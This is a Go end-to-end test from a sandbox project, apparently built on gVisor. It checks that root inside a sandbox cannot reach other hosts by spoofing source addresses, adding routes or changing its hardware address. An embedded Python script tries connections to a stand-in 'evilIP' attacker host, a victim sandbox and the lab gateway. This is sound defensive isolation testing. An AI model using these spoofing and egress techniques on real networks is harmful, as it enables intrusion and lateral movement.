package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/skerry-dev/skerry/client"
)

// TestNetworkAdministration: root in a sandbox may set up the interfaces and
// routes of gVisor's own network stack. It gets no further by that: other
// sources, hardware addresses and routes are dropped at the host's end.
func TestNetworkAdministration(t *testing.T) {
	if !inLab(t) {
		return
	}
	w := newWorld(t)
	sb := w.create(client.CreateOptions{Name: "administrator", NetworkPolicy: customPolicy})
	other := w.create(client.CreateOptions{Name: "other", NetworkPolicy: customPolicy})
	own, victim, open := w.address(sb), w.address(other), w.address(w.neighbour)
	const send = `
import select, socket, sys
own, victim, open = sys.argv[1:4]
waiting = {}
for source in sys.argv[4].split(","):
    for to in [("` + evilIP + `", 8443), (victim, 22), (open, 8080), ("` + labGateway + `", 22)]:
        s = socket.socket(); s.setblocking(False)
        try: s.bind((source, 0)); s.connect(to)
        except BlockingIOError: waiting[s] = source, to
        except OSError: pass
    for to in [("` + evilIP + `", 9000), ("` + directIP + `", 9000), (victim, 9000), ("198.51.100.1", 9000)]:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            if source != own: s.bind((source, 0)); s.sendto(b"out!", to)
        except OSError: pass
for s in select.select([], list(waiting), [], 0.5)[1]:
    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0: print("reached", waiting[s])
`
	attempt := func(what, script, sources string) {
		t.Helper()
		cmd := sb.Command(t.Context(), "sh", "-c", script+"\nexec python3 -c \"$SEND\" "+strings.Join([]string{own, victim, open, sources}, " "))
		cmd.Sudo, cmd.Env = true, map[string]string{"SEND": send}
		out, err := cmd.CombinedOutput()
		if err != nil || strings.Contains(string(out), "reached") {
			t.Errorf("%s: %v\n%s", what, err, out)
		}
		w.quiet(what)
	}
	attempt("as it was", "set -e", own)
	taken := strings.Join([]string{victim, open, "203.0.113.99", "198.51.100.1"}, ",")
	attempt("with others' addresses", fmt.Sprintf("set -e; for a in %s; do ip addr add $a/32 dev eth0; done", strings.ReplaceAll(taken, ",", " ")), taken+","+own)
	attempt("with routes past the gateway", "set -e; ip route add "+labNetsRoute+" dev eth0; ip route add "+evilIP+"/32 dev eth0", own)
	attempt("with another hardware address", "set -e; ip link set eth0 address 02:ba:d0:00:00:01", own)
	// A namespace of its own is empty, and an interface in it leads nowhere.
	out := w.attackShell(sb, "unshare -n ip -br addr | grep -vc '^lo '; true")
	if out != "0" {
		t.Errorf("a network namespace of the sandbox's own has %s interfaces", out)
	}
}

// labNetsRoute is a network of the lab beyond the sandbox's own.
const labNetsRoute = "198.51.100.0/24"

// attackShell runs a script as root.
func (w *world) attackShell(sb *client.Sandbox, script string) string {
	w.t.Helper()
	cmd := sb.Command(w.t.Context(), "sh", "-c", script)
	cmd.Sudo = true
	out, err := cmd.CombinedOutput()
	if err != nil {
		w.t.Fatalf("%s: %v\n%s", script, err, out)
	}
	return strings.TrimSpace(string(out))
}
